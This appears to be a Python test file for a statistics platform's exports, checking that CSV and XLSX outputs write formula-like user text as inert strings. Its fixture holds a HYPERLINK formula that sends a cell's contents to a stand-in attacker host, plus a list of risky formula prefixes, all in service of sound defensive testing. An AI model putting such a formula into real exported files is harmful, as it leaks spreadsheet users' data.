"""Every CSV and XLSX the product writes opens without running what people typed.

A comment or a target's document `=HYPERLINK(...)` must come back as text: in CSV with
the leading apostrophe spreadsheets honour, in XLSX as a string cell (never a formula).
Numbers stay numbers. Each file is opened the way a spreadsheet user's tools open it:
with `csv` and with openpyxl.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from fansipan.domain.access import Role
from fansipan.exchange import cells, sdmx_io
from fansipan.exchange.csv_io import read_csv
from fansipan.reports.tables import to_csv, to_xlsx
from tests.support.accounts import Account

LINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"Xem chi tiết")'
STARTS = ("=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2")


def _csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _sheet_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert_xlsx(body: bytes, text: str) -> None:
    found = [c for c in _sheet_cells(body) if c.value == text]
    assert found, f"{text!r} is not in the workbook"
    assert all(c.data_type == "s" for c in found), [c.data_type for c in found]
    assert all(c.quotePrefix for c in found)
    assert not [c for c in _sheet_cells(body) if c.data_type == "f"]


@pytest.fixture
def stored(client: TestClient, make_account: Any) -> Account:
    officer: Account = make_account(Role.OFFICER, Role.LEADER, username="nhap.lieu")
    r = client.put("/api/v1/datavalues/VT_TRAM_5G/02647/2024-03",
                   json={"value": 3, "comment": LINK}, headers=officer.headers)
    assert r.status_code == 200, r.text
    r = client.put("/api/v1/targets", headers=officer.headers, json={
        "indicator": "VT_TRAM_5G", "unit": "10", "period": "2024", "planned": 40,
        "document": LINK})
    assert r.status_code == 200, r.text
    return officer


def test_value_exports_write_a_comment_as_inert_text(client: TestClient,
                                                     stored: Account) -> None:
    query = {"indicator": "VT_TRAM_5G", "unit": "02647"}
    body = client.get("/api/v1/exports", params={**query, "format": "csv"},
                      headers=stored.headers).content
    header, row = _csv(body)
    assert row[header.index("comment")] == "'" + LINK
    assert row[header.index("value")] == "3"  # the number is written as a number
    dhis2 = _csv(client.get("/api/v1/exports", params={**query, "format": "dhis2-csv"},
                            headers=stored.headers).content)
    assert dhis2[1][dhis2[0].index("comment")] == "'" + LINK
    xlsx = client.get("/api/v1/exports", params={**query, "format": "xlsx"},
                      headers=stored.headers).content
    _assert_inert_xlsx(xlsx, LINK)
    value = [c for c in _sheet_cells(xlsx) if c.value == 3]
    assert value and value[0].data_type == "n"


def test_templates_and_page_tables_write_text_as_inert(client: TestClient,
                                                       stored: Account) -> None:
    template = client.get("/api/v1/templates", headers=stored.headers, params={
        "sector": "telecom", "unit": "02647", "period": "2024-03"})
    assert template.status_code == 200, template.text
    _assert_inert_xlsx(template.content, LINK)
    rows = _csv(client.get("/targets.csv", params={"year": 2024},
                           headers=stored.headers).content)
    assert [c for r in rows for c in r if LINK in c] == ["'" + LINK]
    _assert_inert_xlsx(client.get("/targets.xlsx", params={"year": 2024},
                                  headers=stored.headers).content, LINK)


def test_an_exported_comment_comes_back_unchanged_when_imported(
        client: TestClient, stored: Account) -> None:
    body = client.get("/api/v1/exports", params={"indicator": "VT_TRAM_5G", "unit": "02647",
                                                 "format": "csv"},
                      headers=stored.headers).content
    [row] = list(read_csv(io.BytesIO(body)))
    assert row[5] == LINK
    again = client.post("/api/v1/imports", content=body, headers={
        **stored.headers, "content-type": "text/csv"})
    assert again.json()["import_count"]["ignored"] == 1, again.text  # nothing changed
    got = client.get("/api/v1/datavalues/VT_TRAM_5G/02647/2024-03", headers=stored.headers)
    assert got.json()["comment"] == LINK


@pytest.mark.parametrize("text", [*STARTS, "'=1+2", "''@x"])
def test_each_risky_start_is_quoted_once_and_read_back(text: str) -> None:
    written = cells.inert_text(text)
    assert written.startswith("'") and written[1:] == text
    assert cells.read_text(written) == text
    book = load_workbook(io.BytesIO(to_xlsx(["note"], [[text]], title="t")))
    [cell] = [c for c in book.active["A"] if c.value == text]
    assert cell.data_type == "s"


@pytest.mark.parametrize("text", ["Bình thường", "'trích dẫn'", "3 trạm", "", "a=b"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert cells.inert_text(text) == text
    assert cells.read_text(text) == text


def test_numbers_stay_numbers_and_xml_cannot_break() -> None:
    body = to_csv(["a", "b", "c"], [[-5.0, -7, "-5 so với kỳ trước"]])
    assert _csv(body)[1] == ["-5.0", "-7", "'-5 so với kỳ trước"]
    book = load_workbook(io.BytesIO(to_xlsx(["a", "b", "c"], [[-5.0, "bell\x07", None]],
                                            title="t")))
    a2, b2 = book.active["A2"], book.active["B2"]
    assert a2.value == -5 and a2.data_type == "n"
    assert b2.value == "bell\ufffd"  # a workbook cannot hold C0 controls at all


def test_sdmx_csv_writes_every_text_cell_inert() -> None:
    out = io.BytesIO()
    sdmx_io.write_sdmx_csv([[("=CMD()", "10", "2024", 5.0)]], out)
    rows = _csv(out.getvalue())
    assert "'=CMD()" in rows[1] and "=CMD()" not in rows[1]
